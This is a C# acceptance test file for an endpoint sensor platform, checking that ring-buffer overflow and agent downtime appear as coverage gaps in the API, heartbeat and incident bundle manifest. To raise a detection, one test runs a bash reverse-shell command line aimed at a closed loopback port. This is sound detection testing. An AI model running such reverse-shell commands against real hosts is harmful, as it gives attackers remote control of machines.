using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using Platform.Contracts;
using Platform.Tests.Forensics;
using Platform.Tests.Infrastructure;

namespace Platform.Tests.Sensor;

/// <summary>
/// Issue 20's acceptance: loss is never silent. A sensor whose ring buffer overflows reports the loss as a coverage gap
/// with its span (in the api's gaps, the heartbeat and an incident's bundle manifest); an agent killed for 5 s reports
/// its downtime as a gap of that span when it starts again.
/// </summary>
public abstract class AcceptanceCoverageTests(PlatformApi api) : IDisposable
{
    private readonly PlatformApi _api = Agent.AgentTestSupport.WithMachineClock(api);
    private SensorAgent? _agent;

    public void Dispose() => _agent?.Dispose();

    [SkippableFact]
    public async Task An_overflowing_ring_buffer_is_a_sensor_overflow_gap_in_the_api_the_heartbeat_and_an_incident_bundle()
    {
        var agent = _agent = await SensorAgent.StartAsync(_api, "overflow", new Dictionary<string, string>
        {
            ["Platform__Agent__Sensor__RingBufferBytes"] = "4096",
            ["Platform__Agent__HeartbeatSeconds"] = "1",
        });
        Assert.False(agent.Process.HasExited, agent.Log);
        await agent.WaitUntilSensingAsync();

        // 200 processes at once, each with 4,000 characters of arguments: their exec records cannot all fit in 4 KiB.
        var burstStart = DateTimeOffset.UtcNow;
        await agent.RunAsync("bash", "-c", "a=$(printf '%01000d' 0); for i in $(seq 1 200); do /usr/bin/true $a $a $a $a & done; wait");
        var burstEnd = DateTimeOffset.UtcNow;

        var gap = await Sensing.Found(async () =>
            (await agent.Gaps()).FirstOrDefault(g => g.Reason == CoverageGapReason.SensorOverflow && g.From <= burstEnd && g.Until >= burstStart),
            "a sensor-overflow gap over the burst", _api);
        Assert.True(gap.From <= gap.Until, $"{gap.From:O} .. {gap.Until:O}");
        Assert.True(gap.LostEvents > 0, $"lost {gap.LostEvents}");
        Assert.Equal(agent.AgentId, gap.AgentId);

        var status = await Sensing.Found(async () =>
            (await _api.Admin().GetAgentAsync(agent.AgentId)).Status?.Sensor is { LostEvents: > 0 } sensor ? sensor : null,
            "a heartbeat that counts the lost events", _api);
        Assert.Equal(AgentSensorMode.Ebpf, status.Mode);

        // An incident after the burst: its bundle's window (an hour before its first finding on) takes the gap in.
        using var closed = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        closed.Bind(new IPEndPoint(IPAddress.Loopback, 0));
        var port = ((IPEndPoint)closed.LocalEndPoint!).Port;
        var markers = new List<string>();
        var incident = await Sensing.Found(async () =>
        {
            // A reverse shell's command line (refused: nothing listens); tried again if the tiny buffer lost its start.
            var marker = $"rs{markers.Count}x{Guid.NewGuid().ToString("N")[..8]}";
            markers.Add(marker);
            await agent.RunAsync("bash", "-c", $"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; : {marker}");
            foreach (var candidate in await agent.Incidents(IncidentCategory.ReverseShell))
            {
                if ((await agent.Findings(candidate.Id)).Any(f => markers.Any(JsonSerializer.Serialize(f).Contains)))
                    return candidate;
            }

            return null;
        }, "an incident of this agent", _api);

        var manifest = await Sensing.Found(async () =>
        {
            using var response = await _api.Http(_api.AdminSecret).GetAsync($"/api/v1/incidents/{incident.Id}/bundle");
            if (response.StatusCode == HttpStatusCode.Accepted)
                return null; // being built
            response.EnsureSuccessStatusCode();
            return JsonDocument.Parse(BundleSignatureTests.Unzip(await response.Content.ReadAsByteArrayAsync())["manifest.json"]);
        }, "the incident's bundle", _api);
        using (manifest)
        {
            var gaps = manifest.RootElement.GetProperty("coverageGaps").EnumerateArray().ToList();
            Assert.Contains(gaps, g => g.TryGetProperty("reason", out var reason) && reason.GetString() == "sensor-overflow"
                && g.TryGetProperty("from", out var from) && g.TryGetProperty("until", out var until)
                && from.GetDateTimeOffset() <= burstEnd && until.GetDateTimeOffset() >= burstStart);
        }
    }

    [SkippableFact]
    public async Task An_agent_killed_for_5_seconds_reports_an_agent_down_gap_of_that_span()
    {
        var agent = _agent = await SensorAgent.StartAsync(_api, "down");
        Assert.False(agent.Process.HasExited, agent.Log);
        await agent.WaitUntilSensingAsync();

        var beforeKill = DateTimeOffset.UtcNow;
        await agent.KillAsync();
        var killed = DateTimeOffset.UtcNow;
        await Task.Delay(TimeSpan.FromSeconds(5)); // the downtime under test, not a wait for anything
        var restarted = DateTimeOffset.UtcNow;
        agent.Start();
        await agent.WaitUntilSensingAsync();
        var sensing = DateTimeOffset.UtcNow;

        var gap = await Sensing.Found(async () => (await agent.Gaps()).FirstOrDefault(g => g.Reason == CoverageGapReason.AgentDown), "the agent-down gap", _api);
        Assert.NotNull(gap.From);
        Assert.NotNull(gap.Until);
        // From the last moment the agent knew it ran (it notes that at least every second or two) to its start again.
        Assert.InRange(gap.From!.Value, beforeKill.AddSeconds(-2), killed);
        Assert.InRange(gap.Until!.Value, restarted, sensing);
        Assert.True(gap.Until - gap.From >= TimeSpan.FromSeconds(5), $"{gap.From:O} .. {gap.Until:O}");
        Assert.Null(gap.LostEvents);
    }
}

public sealed class AcceptanceCoverageTestsOnSqlite(SensorApiOnSqlite api) : AcceptanceCoverageTests(api), IClassFixture<SensorApiOnSqlite>;

public sealed class AcceptanceCoverageTestsOnPostgres(SensorApiOnPostgres api) : AcceptanceCoverageTests(api), IClassFixture<SensorApiOnPostgres>;
